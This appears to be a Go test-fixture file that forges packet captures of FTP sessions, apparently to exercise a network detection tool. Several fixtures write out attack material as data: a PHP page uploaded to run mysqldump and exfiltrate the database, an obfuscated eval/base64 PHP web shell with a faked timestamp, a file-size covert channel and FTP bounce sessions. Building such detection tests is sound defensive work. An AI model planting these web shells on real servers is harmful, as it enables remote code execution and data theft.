func onServers(n int, lines string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i := range n {
			dial(f, aClient, fmt.Sprintf("192.0.2.%d:21", 30+i)).Say(hello).Say(strings.TrimSpace(lines)).Say(bye).Peer.Close()
		}
	}
}

// cutOff is a download of the file a that the client resets, and a second session.
func cutOff(second string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
		d := dial(f, aClient, aServer+":25600")
		d.Peer.Segment("P.", "12345")
		d.Segment("R.", "")
		t.Say("< 226 done").Say(bye).Peer.Close()
		f.Pass(time.Second)
		session1(second)(f)
	}
}

// linesOf repeats lines for each of some names.
func linesOf(lines string, names ...string) string {
	var b strings.Builder
	for _, name := range names {
		fmt.Fprintf(&b, lines, name)
	}
	return b.String()
}

// dumps is a session that stores a page which runs a program, and fetches what it writes.
func dumps(then string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "STOR d.php", `<?php system("mysqldump -ushop shop > d.sql"); ?>`)
		move(t, 40001, "RETR d.sql", "-- MySQL dump 10.13\n")
		t.Say(then).Say(bye).Peer.Close()
	}
}

// aDatabase is the beginning of a database of Windows.
const aDatabase = "\x9c\x11\x22\x33\xef\xcd\xab\x89\x20\x06\x00\x00"

// wide is a text in UTF-16.
func wide(text string) string { return strings.Join(strings.Split(text, ""), "\x00") + "\x00" }

// outside is a session of a host in a private network with a server outside.
func outside(lines string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(lines).Say(bye).Peer.Close()
	}
}

// sizedFiles stores a file for each letter of a text, with as many bytes as the letter's code, by a format of its width
// and a number.
func sizedFiles(text, format, then string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i, letter := range text {
			content := fmt.Sprintf(format, letter, 0)
			if !strings.HasPrefix(content, "0") {
				content = "x" + content[1:]
			}
			move(t, 40000+i, "STOR a.tmp", content)
			t.Say(then)
			f.Pass(2 * time.Second)
		}
		t.Say(bye).Peer.Close()
	}
}

// logOf are lines of a log about a host.
func logOf(host string) string {
	return strings.Repeat("sshd[900]: Accepted password for root from "+host+" port 4001 ssh2\n", 4)
}

// encodedPage stores a page that runs an encoded text, and gives it a time.
func encodedPage(time string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "STOR cache.php", `<?php eval(gzinflate(base64_decode("hlymLt7NuxvU"))); ?>`)
		t.Say("> MFMT " + time + " cache.php\n< 213 ok").Say(bye).Peer.Close()
	}
}

// changedFile fetches a file, stores another one in its place, and gives it a time.
func changedFile(time string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		move(t, 40000, "RETR Cc.txt", "before")
		move(t, 40001, "STOR Cc.txt", "before and after")
		t.Say("> MFMT " + time + " Cc.txt\n< 213 ok").Say(bye).Peer.Close()
	}
}

// delivered is a session in active mode in which another host opens the second data connection.
func delivered(from string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello)
		for i, opener1 := range []string{aServer + ":20", from} {
			t.Say(fmt.Sprintf("> PORT 198,51,100,100,12,%d\n< 200 ok\n> RETR a\n< 150 here", 100+i))
			download(f, opener1, addrPort(aClient, 3172+i), opener, 55)
			t.Say("< 226 done")
		}
		t.Say(bye).Peer.Close()
	}
}

// unknown is a session with a command before which the client still is in n later packets, and keep-alives.
func unknown(n int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> DELE a.txt\n< 250 ok")
		for range n {
			t.SegmentAt(-len("DELE a.txt\r\n"), ".", "")
		}
		for range 3 - n {
			f.Pass(time.Minute)
			t.SegmentAt(-1, ".", "")
			t.Peer.ACK()
		}
		if n < 2 {
			t.Say(bye).Peer.Close()
		}
	}
}

// stormed is a session with a command from far away, after which both sides repeat an acknowledgment.
func stormed(n int) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say(strings.Repeat("> NOOP\n< 200 ok\n", 8))
		t.Segment("P.", "DELE a.txt\r\n")
		hops(f, 0, 31)
		t.Say("< 250 ok")
		for range n {
			t.Segment(".", "")
			t.Peer.Segment(".", "")
		}
		t.Say("> NOOP\n< 200 ok").Say(bye).Peer.Close()
	}
}
